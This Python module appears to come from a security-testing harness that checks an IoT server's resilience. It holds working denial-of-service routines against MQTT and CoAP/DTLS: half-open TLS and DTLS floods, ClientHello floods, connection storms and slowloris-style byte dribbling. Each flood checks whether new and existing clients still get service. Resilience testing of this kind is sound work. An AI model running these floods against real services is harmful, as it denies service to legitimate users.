"""Many at once: connections, handshakes and sessions that are begun and left, and slow requests.

While a flood stands, somebody new and honest connects, and the neighbour goes on.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing

from OpenSSL import SSL

from attack import coap, dtls, mqtt
from attack.channel import UnreachableError, context, dial, first_answer, tcp, until_closed
from attack.handshakes import client_hello, places
from attack.neighbour import Neighbour
from attack.outcome import Attack, Seen, Word
from attack.target import Address, Target
from drivers.mqtt.codec.encoder import encode
from drivers.mqtt.codec.packets import Connect, Version

HALF_OPEN = 400
"""More than a listener lets one address have."""
HELLOS = 3_000
DTLS_HALF_OPEN = 400
"""More than a listener lets one address have."""
UNANSWERED_MAX = 5
"""Then the flood is as large as the server lets it be: all of an address' places are taken."""
STORM = 5_000
STORM_AT_ONCE = 500
SLOW_S = 60
CALM = frozenset({Word.CALM})
ENDED = frozenset({Word.CLOSED, Word.REFUSED})


class Floods:
    """Floods from this one address."""

    def __init__(self, target: Target, neighbour: Neighbour, bound_s: float) -> None:
        """``bound_s``: how long a neighbour's answer and a newcomer's handshake may take."""
        self._target = target
        self._neighbour = neighbour
        self._bound_s = bound_s

    def all(self, *, storm: bool) -> Iterator[Attack]:
        """Every attack of this kind."""
        for place in places(self._target):
            if place.name == "mqtt":
                continue
            yield Attack(
                f"{place.name}/{HALF_OPEN} half-open TLS",
                CALM,
                lambda p=place: self._under(lambda: _half_open(p.address, client_hello())),  # type: ignore[misc]
            )
        mqtt_at = self._target.mqtt
        yield Attack(
            f"mqtt/{HALF_OPEN} silent connections",
            CALM,
            lambda: self._under(lambda: _half_open(mqtt_at, b"")),
        )
        yield Attack(
            f"mqtt/{HALF_OPEN} half-open TLS",
            CALM,
            lambda: self._under(lambda: _half_open(mqtt_at, client_hello())),
        )
        yield Attack(
            f"coap/{HELLOS} hellos without cookie", CALM, lambda: self._under(self._hellos)
        )
        yield Attack(
            f"coap/{DTLS_HALF_OPEN} half-open DTLS", CALM, lambda: self._under(self._dtls_half_open)
        )
        if storm:
            yield Attack(
                f"mqtt/{STORM} sessions of strangers", CALM, lambda: self._under(self._storm)
            )

    def slow(self) -> Iterator[Attack]:
        """Requests that never end."""
        spare = self._target.spare
        connect = encode(Connect(spare.device_id), Version.V5)
        yield Attack("mqtt/no CONNECT", ENDED, lambda: self._dribble(b""), slow=True)
        yield Attack(
            "mqtt/CONNECT, a byte at a time", ENDED, lambda: self._dribble(connect[:-1]), slow=True
        )
        # Not beside the others: the spare has one session at a time.
        yield Attack("mqtt/PUBLISH, a byte at a time", ENDED, self._slow_publish)

    def _under(self, flood: Callable[[], ExitStack]) -> Seen:
        """Hold a flood, and let a newcomer and the neighbour ask meanwhile."""
        first = self._neighbour.answers
        with flood():
            for what, newcomer in (("MQTT", self._new_mqtt), ("CoAP", self._new_coap)):
                began = time.monotonic()
                seen = newcomer()
                took_s = time.monotonic() - began
                if seen.word is not Word.ADMITTED or took_s > self._bound_s:
                    return Seen(Word.HARMED, f"a newcomer's {what}: {seen.word}, {took_s:.1f} s")
            time.sleep(0.5)
            return self._neighbour.since(first, self._bound_s)

    def _new_mqtt(self) -> Seen:
        return mqtt.certificate(self._target, self._target.spare, None)

    def _new_coap(self) -> Seen:
        return coap.certificate(self._target, self._target.spare)

    def _hellos(self) -> ExitStack:
        held = ExitStack()
        one = held.enter_context(dtls.Connection(self._target.coaps, dtls.context(None)))
        with contextlib.suppress(SSL.WantReadError):
            one.tls.do_handshake()
        hello = one.tls.bio_read(4096)
        for _ in range(HELLOS):
            with contextlib.suppress(OSError):
                one.send(hello)
        return held

    def _dtls_half_open(self) -> ExitStack:
        """Each returns its cookie, gets the server's flight, and says no more.

        While the last ones wait in vain for an answer, the first have been silent for so long
        that they make room for somebody else.
        """
        held = ExitStack()
        tls = dtls.context(None)
        unanswered = 0
        for _ in range(DTLS_HALF_OPEN):
            one = held.enter_context(dtls.Connection(self._target.coaps, tls))
            try:
                _until_the_cookie(one)
            except TimeoutError:
                unanswered += 1  # beyond this address' share, the server keeps silent
            if unanswered == UNANSWERED_MAX:
                break
        return held

    def _storm(self) -> ExitStack:
        tls = context(self._target.stranger)
        for _ in range(STORM // STORM_AT_ONCE):
            _strangers(self._target, tls, STORM_AT_ONCE)
        return ExitStack()

    def _dribble(self, words: bytes) -> Seen:
        left = iter(words)
        with closing(dial(self._target.mqtt, context(self._target.spare))) as sock:
            return until_closed(sock, SLOW_S, lambda: _one(left))

    def _slow_publish(self) -> Seen:
        spare = self._target.spare
        with closing(mqtt.Client(self._target.mqtt, context(spare))) as client:
            client.connect(Connect(spare.device_id, keep_alive_s=5))
            left = iter(b"\x32\xff\x1f" + b"\0" * 4095)
            return until_closed(client.sock, SLOW_S, lambda: _one(left))


def _one(left: Iterator[int]) -> bytes:
    found = next(left, None)
    return b"" if found is None else bytes([found])


def _half_open(address: Address, words: bytes) -> ExitStack:
    """So many connections that say ``words`` and no more; refused ones are the point."""
    held = ExitStack()
    for _ in range(HALF_OPEN):
        try:
            sock = tcp(address, 0.5)
        except UnreachableError:
            break  # the backlog is full, and so is the flood
        held.enter_context(closing(sock))
        with contextlib.suppress(OSError):
            sock.sendall(words)
    return held


def _until_the_cookie(one: dtls.Connection) -> None:
    """First hello, cookie, second hello; what the server says then is not read."""
    for _ in range(2):
        with contextlib.suppress(SSL.WantReadError):
            one.tls.do_handshake()
        one.flush()
        one.tls.bio_write(one.receive())


def _strangers(target: Target, tls: ssl.SSLContext, count: int) -> None:
    """Connections that begin together, each with a whole handshake."""
    with ExitStack() as held:
        socks: list[socket.socket] = []
        for _ in range(count):
            with contextlib.suppress(UnreachableError):
                socks.append(held.enter_context(closing(tcp(target.mqtt, 2.0))))
        for sock in socks:
            with contextlib.suppress(OSError):
                first_answer(tls.wrap_socket(sock), mqtt.CONNECT_ANYBODY)
